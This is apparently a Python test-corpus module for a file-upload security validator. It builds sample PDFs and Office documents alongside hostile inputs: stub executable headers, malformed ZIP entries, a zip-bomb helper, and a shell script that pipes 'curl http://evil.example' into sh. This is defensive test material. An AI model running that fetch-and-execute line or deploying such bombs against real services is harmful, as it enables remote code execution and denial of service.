"""The security tests' corpus: real documents and hostile files, built byte by byte or with
``zipfile`` so the suite needs no binary fixtures and each test shows what it feeds the validator.
"""

from __future__ import annotations

import io
import struct
import warnings
import zipfile
from collections.abc import Mapping
from pathlib import Path

PDF = b"%PDF-1.7\n%\xe2\xe3\xcf\xd3\n1 0 obj\n<< /Type /Catalog >>\nendobj\ntrailer\n<<>>\n%%EOF\n"
# A minimal ELF64 header and a DOS header whose e_lfanew points at "PE\0\0".
ELF = b"\x7fELF\x02\x01\x01\x00" + bytes(8) + struct.pack("<HHI", 2, 0x3E, 1) + bytes(100)
PE = (b"MZ\x90\x00\x03\x00\x00\x00\x04\x00\x00\x00\xff\xff\x00\x00" + bytes(44)
      + struct.pack("<I", 64) + b"PE\x00\x00" + bytes(64))
MACHO = b"\xcf\xfa\xed\xfe\x07\x00\x00\x01" + bytes(64)
SCRIPT = b"#!/bin/sh\ncurl http://evil.example | sh\n"

OOXML_MEMBERS: Mapping[str, Mapping[str, bytes]] = {
    "docx": {"word/document.xml": b"<w:document><w:body><w:p>Hi</w:p></w:body></w:document>"},
    "xlsx": {"xl/workbook.xml": b"<workbook/>", "xl/worksheets/sheet1.xml": b"<worksheet/>"},
    "pptx": {"ppt/presentation.xml": b"<p:presentation/>", "ppt/slides/slide1.xml": b"<p:sld/>"},
}
_COMMON_MEMBERS = {
    "[Content_Types].xml": b'<?xml version="1.0"?><Types xmlns="http://schemas.openxmlformats'
                           b'.org/package/2006/content-types"/>',
    "_rels/.rels": b"<Relationships/>",
}


def zip_bytes(members: Mapping[str, bytes], *,
              compression: int = zipfile.ZIP_DEFLATED) -> bytes:
    buffer = io.BytesIO()
    with warnings.catch_warnings():
        warnings.simplefilter("ignore")  # zipfile warns about the duplicate names some tests want
        with zipfile.ZipFile(buffer, "w", compression) as archive:
            for name, data in members.items():
                archive.writestr(name, data)
    return buffer.getvalue()


def ooxml_bytes(kind: str, extra: Mapping[str, bytes] | None = None) -> bytes:
    return zip_bytes({**_COMMON_MEMBERS, **OOXML_MEMBERS[kind], **(extra or {})})


def patch_central_directory(data: bytes, index: int, **fields: int) -> bytes:
    """Rewrite fields of the ``index``-th central directory entry (APPNOTE 4.3.12)."""
    offsets = {"flag_bits": 8, "local_header_offset": 42}
    formats = {"flag_bits": "<H", "local_header_offset": "<I"}
    out = bytearray(data)
    at = -1
    for _ in range(index + 1):
        at = out.index(b"PK\x01\x02", at + 1)
    for name, value in fields.items():
        struct.pack_into(formats[name], out, at + offsets[name], value)
    return bytes(out)


class Corpus:
    """Writes named files into a directory and returns their paths."""

    def __init__(self, directory: Path) -> None:
        self.directory = directory
        directory.mkdir(parents=True, exist_ok=True)

    def write(self, name: str, data: bytes) -> Path:
        path = self.directory / name
        path.write_bytes(data)
        return path

    def pdf(self, name: str = "report.pdf") -> Path:
        return self.write(name, PDF)

    def ooxml(self, kind: str, name: str | None = None,
              extra: Mapping[str, bytes] | None = None) -> Path:
        return self.write(name or f"document.{kind}", ooxml_bytes(kind, extra))

    def zip_bomb(self, name: str = "bomb.docx", megabytes: int = 10) -> Path:
        """A DOCX whose main part is ``megabytes`` MB of zeros (about 10 KB on disk)."""
        return self.write(name, ooxml_bytes("docx", {"word/media/blob.bin":
                                                     bytes(megabytes * 1024 * 1024)}))
